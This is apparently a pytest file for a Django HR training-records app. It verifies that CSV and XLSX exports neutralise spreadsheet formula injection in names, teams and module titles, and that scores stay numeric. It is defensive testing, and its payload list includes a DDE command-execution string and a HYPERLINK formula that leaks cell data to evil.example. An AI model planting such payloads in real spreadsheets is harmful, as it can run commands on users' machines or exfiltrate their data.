"""Formula injection: a name, team, employee number or module title that a spreadsheet would
run as a formula arrives neutralised (an apostrophe in front) in the admin's CSV and XLSX and
in the command's files, while score and attempts stay numbers."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from people.models import Organisation
from records.resources import COLUMNS
from records.spreadsheet import FORMULA_PREFIXES
from tests.factories import login_with_mfa, make_module
from tests.records.export_factories import build_tree, completed, hr_of, person

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
]
TEXT_COLUMNS = ("employee_number", "name", "team", "module")
CHANNELS = ("admin-csv", "admin-xlsx", "command-csv", "command-xlsx")


def rows_from_csv(content):
    text = content.decode("utf-8").removeprefix("\ufeff")
    # The admin's download is for Excel (NL), with semicolons; the command's feed has commas.
    separator = ";" if ";" in text.split("\n", 1)[0] else ","
    return [list(row) for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)]


def rows_from_xlsx(content):
    sheet = load_workbook(io.BytesIO(content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    # The file writes control characters the way XLSX spells them ("\r" as "_x000D_"), which
    # Excel reads back as the character; openpyxl leaves them spelled out in inline text.
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = unescape(cell.value)
    return rows


def export_through(channel, client, hr, tmp_path):
    """The data rows of an export (header row dropped) through one channel; XLSX rows are
    openpyxl cells."""
    kind, file_format = channel.split("-")
    if kind == "admin":
        login_with_mfa(client, hr)
        response = client.post("/admin/hr/export/", {"action": file_format})
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
    else:
        output = tmp_path / f"export.{file_format}"
        call_command(
            "export_completions",
            "--format",
            file_format,
            "--organisation",
            "x-gemeente-a",
            "--output",
            str(output),
            stdout=io.StringIO(),
        )
        content = output.read_bytes()
    rows = rows_from_csv(content) if file_format == "csv" else rows_from_xlsx(content)
    return file_format, rows[1:]


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised_and_numbers_stay_numbers(
    client, catalogue, tmp_path, payload, channel
):
    tree = build_tree()
    Organisation.objects.filter(pk=tree["a1"].pk).update(name=payload + " team")
    learner = person(tree["a1"], first_name=payload, last_name="", employee_number=payload[:30])
    module = make_module(catalogue=catalogue, title=payload + " module")
    completed(learner, module, on=datetime.date(2026, 5, 1), score=75, attempts=4)
    hr = hr_of(tree["a"])

    file_format, rows = export_through(channel, client, hr, tmp_path)
    (row,) = rows
    for column in TEXT_COLUMNS:
        cell = row[COLUMNS.index(column)]
        value = cell.value if file_format == "xlsx" else cell
        if file_format == "xlsx":
            assert cell.data_type == "s", (column, cell.data_type)
            value = value.replace("\n", "\r") if payload.startswith("\r") else value
        assert not value.startswith(FORMULA_PREFIXES), (column, value)
        if column == "name":  # the full name is stripped of surrounding whitespace first
            assert value.startswith(("'" + payload, payload.strip())), (column, value)
        elif column == "employee_number":  # at most 40 characters
            assert value == "'" + payload[:30], (column, value)
        else:
            assert value.startswith("'" + payload), (column, value)
    score = row[COLUMNS.index("score")]
    attempts = row[COLUMNS.index("attempts")]
    if file_format == "xlsx":
        assert (score.data_type, score.value) == ("n", 75)
        assert (attempts.data_type, attempts.value) == ("n", 4)
        assert row[COLUMNS.index("first_completed")].is_date
    else:
        assert (score, attempts) == ("75", "4")


def test_text_cells_with_control_characters_do_not_break_the_xlsx_or_hide_a_formula(
    client, catalogue
):
    tree = build_tree()
    learner = person(tree["a1"], first_name="\x0b=1+1", last_name="")
    completed(learner, make_module(catalogue=catalogue), on=datetime.date(2026, 5, 1))
    login_with_mfa(client, hr_of(tree["a"]))
    response = client.post("/admin/hr/export/", {"action": "xlsx"})
    (row,) = rows_from_xlsx(b"".join(response.streaming_content))[1:]
    name = row[COLUMNS.index("name")]
    assert (name.data_type, name.value) == ("s", "'=1+1")
